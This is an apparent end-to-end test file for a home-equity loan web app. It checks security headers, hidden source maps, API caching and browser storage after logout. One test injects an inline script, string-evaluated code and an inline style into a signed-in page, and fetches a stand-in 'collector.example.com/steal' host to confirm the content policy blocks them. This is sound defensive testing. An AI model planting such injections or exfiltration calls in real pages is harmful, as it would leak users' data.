import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { STORED_ITEMS } from '../../src/lib/browserStorage';
import {
  BASE,
  SANDBOX_URL,
  screenshot,
  signInOnLoginPage,
  useBrowser,
  watchPageErrors,
} from './support/browser';
import { createApplicant } from './support/sandbox';
import { expectNoInlineCode, expectSecurePageHeaders } from './support/security';

/**
 * The security baseline with the production build: the headers of the app page, the sandbox's
 * pages and the API answers; the app running under its policy; the policy enforced (and the
 * guard every browser test carries seeing it); and what the app leaves in the browser's storage.
 */
const browser = useBrowser();
const LIENS = 'Review the liens on your property';

test('the app page goes out with the security headers and no inline code', async () => {
  const applicant = await createApplicant();
  for (const path of ['/', `/${applicant.applicationUuid}/liens`, '/register']) {
    const response = await fetch(`${BASE}${path}`, { headers: { Accept: 'text/html' } });
    expect(response.status).toBe(200);
    expectSecurePageHeaders(response.headers, SANDBOX_URL);
    const html = await response.text();
    expectNoInlineCode(html);
    // Deferred, and fetched at high priority: the entry script is what paints the page.
    expect(html).toMatch(
      /<script defer="defer" src="\/account\/heloc\/main\.[0-9a-f]{8}\.js" fetchpriority="high">/,
    );
    expect(html).toContain('<script id="org-info" type="application/json">');
  }
});

test('source maps are built for error reporting, but named in no script and never served', async () => {
  const dist = path.resolve(__dirname, '../../dist');
  const scripts = readdirSync(dist).filter((file) => file.endsWith('.js'));
  expect(scripts.length).toBeGreaterThan(10);
  for (const script of scripts) {
    expect(existsSync(path.join(dist, `${script}.map`))).toBe(true);
    expect({
      script,
      named: readFileSync(path.join(dist, script), 'utf8').includes('sourceMappingURL'),
    }).toEqual({ script, named: false });
    const served = await fetch(`${BASE}/${script}.map`);
    expect({ script, status: served.status }).toEqual({ script, status: 404 });
  }
  const main = scripts.find((file) => file.startsWith('main.'))!;
  expect((await fetch(`${BASE}/${main}`)).status).toBe(200);
});

test("the sandbox's own pages go out under the same policy", async () => {
  for (const path of ['/auth/login', '/dashboard', '/no-such-page']) {
    const response = await fetch(`${SANDBOX_URL}${path}`, { headers: { Accept: 'text/html' } });
    expectSecurePageHeaders(response.headers, SANDBOX_URL);
    expectNoInlineCode(await response.text());
  }
});

test('API answers are nosniff and never cached', async () => {
  const applicant = await createApplicant();
  const signedIn = await fetch(`${SANDBOX_URL}/service-profile/api/v1/profile`, {
    headers: { Authorization: `Bearer ${applicant.jwt}`, Accept: 'application/json' },
  });
  const refused = await fetch(`${SANDBOX_URL}/service-profile/api/v1/profile`, {
    headers: { Accept: 'application/json' },
  });
  expect([signedIn.status, refused.status]).toEqual([200, 401]);
  for (const response of [signedIn, refused]) {
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('cache-control')).toBe('no-store');
  }
});

test('a signed-in step runs under the policy, which refuses inline script, eval, inline style and foreign hosts', async () => {
  const { applicant, context, page } = await browser.signedInPage({ state: 'LIEN_VERIFICATION' });
  const errors = watchPageErrors(page);
  await page.goto(`${BASE}/${applicant.applicationUuid}/liens`);
  await page.getByRole('heading', { level: 1, name: LIENS }).waitFor();
  // The private-label colours reach the page as custom properties set from script.
  expect(
    await page.evaluate(() =>
      getComputedStyle(document.documentElement).getPropertyValue('--brand-primary').trim(),
    ),
  ).toMatch(/^#[0-9a-f]{3,6}$/i);
  await screenshot(page, 'security-step-under-policy');
  expect(errors).toEqual([]);
  // Nothing so far broke the policy.
  expect(browser.takePolicyViolations()).toEqual([]);

  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.head.append(script);
    // A string handed to setTimeout is evaluated by the page itself (the devtools protocol lets
    // eval run inside this evaluate call, so eval here would prove nothing).
    (setTimeout as (code: string, ms: number) => number)('window.__evaluated = true;', 0);
    await new Promise((resolve) => setTimeout(resolve, 100));
    document.body.setAttribute('style', 'outline: 5px solid red');
    let fetchResult = 'fetched';
    try {
      await fetch('https://collector.example.com/steal');
    } catch (error) {
      fetchResult = (error as Error).name;
    }
    return {
      injected: (window as { __injected?: boolean }).__injected ?? false,
      evaluated: (window as { __evaluated?: boolean }).__evaluated ?? false,
      fetchResult,
      outline: getComputedStyle(document.body).outlineStyle,
    };
  });
  expect(outcome).toEqual({
    injected: false,
    evaluated: false,
    fetchResult: 'TypeError',
    outline: 'none',
  });

  // The guard saw each refusal, by directive.
  const expected = ['script-src-elem', 'script-src', 'style-src-attr', 'connect-src'];
  let seen: string[] = [];
  for (let waited = 0; waited < 5000; waited += 100) {
    seen = [...seen, ...browser.takePolicyViolations()];
    if (expected.every((d) => seen.some((line) => line.includes(`: ${d} refused`)))) break;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  for (const directive of expected) {
    expect(seen.some((line) => line.includes(`: ${directive} refused`))).toBe(true);
  }
  // Chromium also writes each refusal on the console, which the guard reads too.
  expect(seen.some((line) => line.startsWith('console: '))).toBe(true);
  await context.close();
  browser.takePolicyViolations();
});

test('the browser keeps only the listed keys, and logout leaves only what outlives it', async () => {
  const applicant = await createApplicant({ state: 'LIEN_VERIFICATION' });
  const context = await browser.newContext();
  const page = await context.newPage();
  const errors = watchPageErrors(page);
  await page.goto(
    `${SANDBOX_URL}/auth/login?redirectUrl=/account/heloc/${applicant.applicationUuid}`,
  );
  await signInOnLoginPage(page, applicant.email, applicant.password);
  await page.waitForURL((url) => url.pathname.endsWith('/liens'));
  await page.getByRole('heading', { level: 1, name: LIENS }).waitFor();

  const storage = () =>
    page.evaluate(() => ({
      local: Object.fromEntries(Object.entries(localStorage)),
      session: Object.fromEntries(Object.entries(sessionStorage)),
    }));
  const listed = (area: 'local' | 'session') =>
    STORED_ITEMS.filter((i) => i.area === area).map((i) => i.key);
  const kept = (area: 'local' | 'session') =>
    STORED_ITEMS.filter((i) => i.area === area && i.keptAfterLogout).map((i) => i.key);

  const during = await storage();
  expect(Object.keys(during.local)).toEqual(expect.arrayContaining(['jwt', 'heloc_uuid']));
  expect(during.local.heloc_uuid).toBe(applicant.applicationUuid);
  for (const key of Object.keys(during.local)) expect(listed('local')).toContain(key);
  for (const key of Object.keys(during.session)) expect(listed('session')).toContain(key);

  await page.getByRole('button', { name: 'Account menu' }).click();
  await page.getByRole('button', { name: 'Logout' }).click();
  await page.waitForURL((url) => url.pathname === '/auth/login');
  const after = await storage();
  for (const key of Object.keys(after.local)) expect(kept('local')).toContain(key);
  for (const key of Object.keys(after.session)) expect(kept('session')).toContain(key);
  expect(after.local.jwt).toBeUndefined();
  expect(after.local.heloc_uuid).toBeUndefined();
  expect(errors).toEqual([]);
  await context.close();
});
